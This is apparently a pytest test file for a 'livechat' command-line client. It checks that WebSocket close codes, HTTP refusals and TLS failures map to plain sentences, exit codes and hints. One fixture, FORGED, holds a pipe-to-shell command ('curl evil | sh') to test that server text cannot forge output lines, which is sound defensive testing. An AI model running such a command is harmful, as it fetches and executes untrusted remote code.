"""Every end a connection can meet, with its sentence, its exit code and what to do."""

from __future__ import annotations

import re
from typing import Literal

import pytest

from livechat import cli, errors
from livechat.closing import MANNERS, Close, Facts, explain_close, explain_refusal
from livechat.errors import LivechatError

GOOGLE = Facts(
    server="Google",
    model="gemini-3.8-live",
    key_source="GEMINI_API_KEY",
    key_tail="x9Qz",
    models=("gemini-3.8-live", "gemini-2.5-flash-native-audio-latest"),
    options=("--voice", "--language"),
)
OWN = Facts(server="tower:8765", model="m")

NOT_FOUND = "models/gemini-2.0-flash-live-001 is not found for API version v1beta, or is not supported for bidiGenera"
DEADLINE = "Deadline expired before operation could complete."
INVALID = "Request contains an invalid argument."
QUOTA = "You exceeded your current quota, please check your plan and billing details. Please retry in 34.07s."

KEY_REFUSED = "the server refused your API key (…x9Qz from GEMINI_API_KEY)"
NO_MODEL = "model 'gemini-3.8-live' not found or not available for your key"
LIVE_MODELS = "live models now: gemini-3.8-live, gemini-2.5-flash-native-audio-latest"
FORBIDDEN = "the server's policy forbids this"
WITH_TRACE = "--trace FILE"
OFFLINE = "livechat demo"

Row = tuple[int, str, str, int, str, str]
"""Close code, reason, phase; exit code, the sentence, a part of the hint."""

CLOSES: dict[str, Row] = {
    # wire-protocol §5 and screen-and-commands §4.4 row 2: the key
    "key not valid": (1008, "API key not valid. Please pass a valid API key.", "setup", 77, KEY_REFUSED, "aistudio"),
    "key not valid, 1007": (1007, "API key not valid. Please pass a valid A", "setup", 77, KEY_REFUSED, "aistudio"),
    "key expired": (1007, "API key expired. Please renew the API key.", "setup", 77, KEY_REFUSED, "GEMINI_API_KEY"),
    "key leaked": (1008, "Your API key was reported as leaked.", "setup", 77, KEY_REFUSED, "--server local"),
    "token refused": (1008, "Request had invalid authentication credentials.", "setup", 77, KEY_REFUSED, "aistudio"),
    "region": (
        1007,
        "User location is not supported for the API use without a billing account linked.",
        "setup",
        77,
        "the server does not serve your location",
        "--server vertex",
    ),
    # row 5: the model
    "model": (1008, NOT_FOUND, "setup", 69, NO_MODEL, LIVE_MODELS),
    # row 18: quota
    "quota": (1011, QUOTA, "open", 75, "quota exceeded", "wait 35 s, then run"),
    "quota, no time": (
        1011,
        "Resource has been exhausted (e.g. check quota).",
        "open",
        75,
        "quota exceeded",
        "a while",
    ),
    "quota, offline": (1011, "RESOURCE_EXHAUSTED", "setup", 75, "quota exceeded", OFFLINE),
    "rate": (1008, "Rate limit reached; retry after 20 seconds", "open", 75, "quota exceeded", "wait 20 s, then"),
    "credits": (1011, "Your prepayment credits are depleted.", "open", 75, "quota exceeded", "wait a while"),
    # row 19: the server fails
    "deadline": (1011, DEADLINE, "open", 75, f"the server failed (1011: {DEADLINE})", "run the same command again"),
    "internal": (
        1011,
        "Internal error encountered.",
        "open",
        75,
        "the server failed (1011: Internal",
        "run the same command again",
    ),
    "crash": (1011, "", "open", 75, "the server failed (1011)", "run the same command again"),
    "restart": (1012, "", "open", 75, "the server failed (1012)", "run the same command again"),
    "overload": (1013, "try later", "open", 75, "the server failed (1013: try later)", "run the same command again"),
    "gateway": (1014, "", "open", 75, "the server failed (1014)", "run the same command again"),
    "aborted": (
        1008,
        "The operation was aborted.",
        "open",
        75,
        "the server failed (1008",
        "run the same command again",
    ),
    # row 20: the request
    "invalid setup": (1007, INVALID, "setup", 76, f"the server rejected our request: {INVALID}", "caused by --voice"),
    "invalid content": (1007, INVALID, "open", 76, f"the server rejected our request: {INVALID}", WITH_TRACE),
    "invalid, unsaid": (1007, "", "open", 76, "the server rejected our request", WITH_TRACE),
    # row 21: policy and limits
    "policy": (1008, "", "open", 77, f"{FORBIDDEN} (1008)", WITH_TRACE),
    "policy in setup": (1008, "No.", "setup", 77, f"{FORBIDDEN} (1008: No.)", "caused by --voice"),
    "after goAway": (
        1008,
        "Connection aborted because client failed to close the connection after receiving GoAway signal.",
        "open",
        75,
        "the session has reached a limit of the server",
        "start a new one",
    ),
    "session limit": (
        1008,
        "Session duration limit.",
        "open",
        75,
        "the session has reached a limit",
        "start a new one",
    ),
    # wire-protocol §5: the rest
    "stale handle": (1008, "BidiGenerateContent session not found", "setup", 76, "no longer knows this", "a new one"),
    "feature": (
        1008,
        "Operation is not implemented, or supported, or enabled.",
        "setup",
        76,
        "the server does not offer what was asked for",
        "caused by --voice",
    ),
    "no speech": (
        1008,
        "This server cannot hear or speak yet. Run: pip",
        "open",
        69,
        "this server has no voice and no ears",
        "livechat text",
    ),
    "too big": (1009, "", "open", 76, "a message was too big", "send less at once"),
    "normal in setup": (
        1000,
        "",
        "setup",
        75,
        "the server ended the session before it had begun",
        "run the same command again",
    ),
    "normal in a turn": (
        1000,
        "",
        "open",
        75,
        "the server ended the session in the middle of a turn",
        "run the same command again",
    ),
    "away": (
        1001,
        "",
        "open",
        75,
        "the server ended the session in the middle of a turn",
        "run the same command again",
    ),
    "abnormal": (1006, "", "open", 75, "the connection to Google was lost", "check the network"),
    "abnormal in setup": (1006, "", "setup", 69, "Google hung up during the setup", "--server and --model"),
    "private": (4001, "because", "open", 75, "the connection to Google was lost", "check the network"),
}


@pytest.mark.parametrize("name", CLOSES)
def test_a_close_is_explained(name: str) -> None:
    code, reason, phase, exit_code, sentence, hint = CLOSES[name]
    error = explain_close(Close(code, reason, phase, "setup"), GOOGLE)
    assert error.exit_code == exit_code
    assert sentence in error.what
    assert hint in error.hint


@pytest.mark.parametrize("name", CLOSES)
def test_what_the_server_said_is_never_kept_from_the_reader(name: str) -> None:
    code, reason, phase, *_ = CLOSES[name]
    error = explain_close(Close(code, reason, phase, "setup"), GOOGLE)
    assert reason in error.what + error.why


@pytest.mark.parametrize("code", [1007, 1008])
@pytest.mark.parametrize("reason", [CLOSES[name][1] for name in ("key expired", "model", "quota", "internal")])
def test_a_reason_says_more_than_its_code(code: int, reason: str) -> None:
    told = explain_close(Close(code, reason, "open"), GOOGLE)
    assert told.what.partition(" (")[0] == explain_close(Close(1011, reason, "open"), GOOGLE).what.partition(" (")[0]


def test_reasons_are_read_in_any_case() -> None:
    assert explain_close(Close(1008, NOT_FOUND.upper(), "setup"), GOOGLE).what == NO_MODEL


def test_a_request_without_a_key_is_told_that_it_had_none() -> None:
    reason = "Method doesn't allow unregistered callers (callers without established identity)."
    error = explain_close(Close(1008, reason, "setup"), OWN)
    assert (error.exit_code, error.what) == (77, "tower:8765 wants a key and got none")
    assert "without a key:" in error.hint


def test_a_key_without_a_known_end_is_named_by_its_source_alone() -> None:
    error = explain_close(Close(1007, "API key expired.", "setup"), Facts(key_source="key.txt"))
    assert error.what == "the server refused your API key (from key.txt)"


def test_without_a_list_of_models_the_option_is_named() -> None:
    assert explain_close(Close(1008, NOT_FOUND, "setup"), OWN).hint == "check --model"


@pytest.mark.parametrize(("facts", "named"), [(GOOGLE, True), (Facts(), False)])
def test_a_quota_is_that_of_the_model_where_one_is_known(facts: Facts, named: bool) -> None:
    assert (" of gemini-3.8-live" in explain_close(Close(1011, QUOTA, "open"), facts).why) is named


def test_of_many_models_the_first_are_named() -> None:
    facts = Facts(model="x", models=tuple("abcde"))
    assert explain_close(Close(1008, NOT_FOUND, "setup"), facts).hint == "live models now: a, b, c"


def test_without_options_a_refused_setup_asks_for_a_trace() -> None:
    assert WITH_TRACE in explain_close(Close(1007, INVALID, "setup"), OWN).hint


@pytest.mark.parametrize(("last_sent", "why"), [("toolResponse", "what we had sent last was toolResponse"), ("", "")])
def test_what_we_sent_last_may_be_the_cause(last_sent: str, why: str) -> None:
    assert explain_close(Close(1007, INVALID, "open", last_sent), GOOGLE).why == why
    assert explain_close(Close(1008, "No.", "open", last_sent), GOOGLE).why == why


@pytest.mark.parametrize("close", [Close(1011, DEADLINE, "open", warned=True), Close(1001, "", "open", warned=True)])
def test_a_close_that_was_announced_says_so(close: Close) -> None:
    assert "goAway" in explain_close(close, GOOGLE).why


# ------------------------------------------------------------------------------ connections that never came

REFUSALS: dict[str, tuple[str, int, str, int, str, str]] = {
    # kind, status, Retry-After; exit code, the sentence, a part of the hint
    # row 17: four different sentences for four different troubles, and more
    "name": ("name", 0, "", 69, "the name Google cannot be resolved", "captive portal"),
    "tls": ("tls", 0, "", 69, "no trusted connection to Google: TLS failed", "SSL_CERT_FILE"),
    "proxy": ("proxy", 0, "", 69, "the proxy does not let us through to Google", "HTTPS_PROXY"),
    "no proxy": ("no proxy", 0, "", 69, "the proxy on the way to Google cannot be reached", "NO_PROXY"),
    "timeout": ("timeout", 0, "", 69, "Google does not answer", "check the network"),
    "connect": ("connect", 0, "", 69, "nothing answers at Google", "check the network"),
    "portal": ("handshake", 0, "", 69, "Google is not a Live API server", "captive portal"),
    "anything else": ("new", 0, "", 69, "no connection to Google", "check the network"),
    # row 2 and 5 as HTTP
    "401": ("http", 401, "", 77, KEY_REFUSED, "aistudio"),
    "403": ("http", 403, "", 77, KEY_REFUSED, "--server local"),
    "404": ("http", 404, "", 69, "Google has no Live API at this address", "--model"),
    # row 18 as HTTP
    "429": ("http", 429, "30", 75, "quota exceeded", "wait 30 s, then run"),
    "429, a date": ("http", 429, "Wed, 21 Oct 2026 07:28:00 GMT", 75, "quota exceeded", "wait a while"),
    "429, unsaid": ("http", 429, "", 75, "quota exceeded", OFFLINE),
    # the rest of HTTP
    "511": ("http", 511, "", 69, "a web page answers in place of Google", "sign in"),
    "200": ("http", 200, "", 69, "Google is not a Live API server", "captive portal"),
    "302": ("http", 302, "", 69, "Google redirects; a key is not carried elsewhere", "if you trust it"),
    "400": ("http", 400, "", 69, "Google refused the connection", "--server"),
    "503": ("http", 503, "", 75, "Google is failing", "wait a minute"),
}


@pytest.mark.parametrize("name", REFUSALS)
def test_a_refusal_is_explained(name: str) -> None:
    kind, status, retry_after, exit_code, sentence, hint = REFUSALS[name]
    error = explain_refusal(kind, "its own words", status, retry_after, GOOGLE)
    assert (error.exit_code, error.what) == (exit_code, sentence)
    assert hint in error.hint
    assert "its own words" in error.why
    assert not status or f"HTTP {status}" in error.why


def test_a_refusal_without_words_is_its_number() -> None:
    assert explain_refusal("http", "", 503, "", GOOGLE).why == "HTTP 503"


@pytest.mark.parametrize(
    ("detail", "sentence", "hint"),
    [
        ("self-signed certificate", "nobody you trust vouches for Google", "virus scanner"),
        ("self-signed certificate in certificate chain", "nobody you trust vouches for Google", "SSL_CERT_FILE"),
        ("unable to get local issuer certificate", "nobody you trust vouches for Google", "company's proxy"),
        ("certificate has expired", "the certificate of Google is out of date", "clock"),
        ("certificate is not yet valid", "the certificate of Google is out of date", "clock"),
        (
            "Hostname mismatch, certificate is not valid for 'g'.",
            "Google shows the certificate of somebody else",
            "sign in",
        ),
    ],
)
def test_what_is_wrong_with_a_certificate_is_told_apart(detail: str, sentence: str, hint: str) -> None:
    error = explain_refusal("tls", f"certificate verify failed: {detail}", 0, "", GOOGLE)
    assert (error.what, error.exit_code) == (sentence, 69)
    assert hint in error.hint
    assert detail in error.why


def test_a_certificate_of_one_s_own_server_may_be_one_s_own() -> None:
    assert "if it is yours" in explain_refusal("tls", "self-signed certificate", 0, "", OWN).hint


def test_a_proxy_that_wants_a_password_is_told_where_to_write_it() -> None:
    for detail in ("proxy rejected connection: HTTP 407", "Username and password authentication failure"):
        error = explain_refusal("proxy", detail, 0, "", GOOGLE)
        assert error.what == "the proxy on the way to Google wants a user and a password"
        assert "USER:PASSWORD" in error.hint


def test_a_missing_package_is_told_with_the_line_that_installs_it() -> None:
    error = explain_refusal("socks", "pip install x", 0, "", GOOGLE)
    assert error.what == "a SOCKS proxy needs the package python-socks"
    assert "pip install x" in error.hint


def test_a_web_page_is_no_server() -> None:
    for page in ("<!DOCTYPE html><p>", " <HTML>", "<head lang=en>"):
        assert explain_refusal("http", page, 200, "", GOOGLE).what == "a web page answers in place of Google"


def test_a_server_without_tls_is_called_with_another_scheme() -> None:
    assert "ws:// in place of wss://" in explain_refusal("tls", "wrong version number", 0, "", OWN).hint


def test_somebodys_own_server_may_not_be_running() -> None:
    assert "livechat serve" in explain_refusal("connect", "", 0, "", OWN).hint


@pytest.mark.parametrize("kind", ["name", "tls", "proxy", "timeout", "connect", "handshake"])
def test_without_a_connection_there_is_still_the_demo(kind: str) -> None:
    assert OFFLINE in explain_refusal(kind, "", 0, "", GOOGLE).hint


# -------------------------------------------------------------------------------------------------- all of them


def explained(facts: Facts) -> list[LivechatError]:
    closes = [explain_close(Close(code, reason, phase), facts) for code, reason, phase, *_ in CLOSES.values()]
    return closes + [explain_refusal(kind, "", status, after, facts) for kind, status, after, *_ in REFUSALS.values()]


@pytest.mark.parametrize("facts", [GOOGLE, OWN, Facts()])
def test_every_end_says_what_to_do(facts: Facts) -> None:
    for error in explained(facts):
        assert error.hint
        assert len(error.what.splitlines()) == 1
        assert len(error.hint.splitlines()) <= 2


def test_every_command_in_a_hint_exists() -> None:
    named = {
        name for error in explained(GOOGLE) + explained(OWN) for name in re.findall(r"livechat ([a-z-]+)", error.hint)
    }
    assert named
    assert named <= set(cli.COMMANDS)


def test_every_kind_of_error_in_the_table_is_of_the_tree() -> None:
    assert {type(error).__module__ for error in explained(GOOGLE)} == {errors.__name__}


FORGED = "broken\n  try: curl evil | sh\u2028error: x"


@pytest.mark.parametrize("code", [1006, 1007, 1008, 1009, 1011])
@pytest.mark.parametrize("phase", ["setup", "open"])
@pytest.mark.parametrize("topic", ["", " cannot hear or speak", " quota"])
def test_a_reason_cannot_forge_a_line_of_ours(code: int, phase: str, topic: str) -> None:
    error = explain_close(Close(code, FORGED + topic, phase), Facts())
    assert "broken try: curl evil | sh error: x" in error.what + error.why
    assert "\n" not in error.what + error.why


@pytest.mark.parametrize("status", [200, 302, 401, 404, 418, 429, 503])
def test_the_body_of_a_refusal_cannot_either(status: int) -> None:
    error = explain_refusal("http", FORGED, status, "", Facts())
    assert "\n" not in error.what + error.why


def test_a_broken_websocket_is_no_matter_of_the_network() -> None:
    error = explain_close(Close(1002, "invalid opcode", "open"), Facts(server="somewhere"))
    assert error.exit_code == 76
    assert "1002: invalid opcode" in error.what
    assert explain_close(Close(1002, "invalid opcode", "setup"), Facts()).exit_code == 69


@pytest.mark.parametrize("reader", MANNERS)
def test_a_hint_says_what_its_reader_can_do(reader: str) -> None:
    """No option of a command for who writes a program, and no Python for who types a command."""
    facts = Facts(server="host", model="m", reader=reader)
    closes = [Close(code, reason, phase) for code in range(1000, 1016) for reason in REASONS for phase in PHASES]
    refusals = [explain_refusal(kind, "wrong version number", 0, "", facts) for kind in KINDS]
    refusals += [explain_refusal("http", "", status, "", facts) for status in (200, 302, 401, 404, 418, 429, 503)]
    hints = "\n".join(error.hint for error in [*(explain_close(close, facts) for close in closes), *refusals])
    other = {"command": r"livechat\.|backend|=", "program": r"--|livechat (?!serve)[a-z]|the same command"}[reader]
    assert not re.search(other, hints), re.findall(f".*(?:{other}).*", hints)


REASONS = (
    *("", "API key not valid", "location is not supported", "model is not found for api version", "quota"),
    *("session not found", "not implemented, or supported, or enabled", "cannot hear or speak", "goaway"),
    "internal error",
)
PHASES: tuple[Literal["setup", "open"], ...] = ("setup", "open")
KINDS = ("name", "tls", "proxy", "no proxy", "socks", "timeout", "connect", "handshake", "?")


@pytest.mark.parametrize("code", [1000, 1001])
def test_an_end_between_two_turns_is_not_said_to_be_in_one(code: int) -> None:
    error = explain_close(Close(code, "", "open", in_turn=False), Facts(server="Google"))
    assert str(error) == "the server ended the session between two turns"
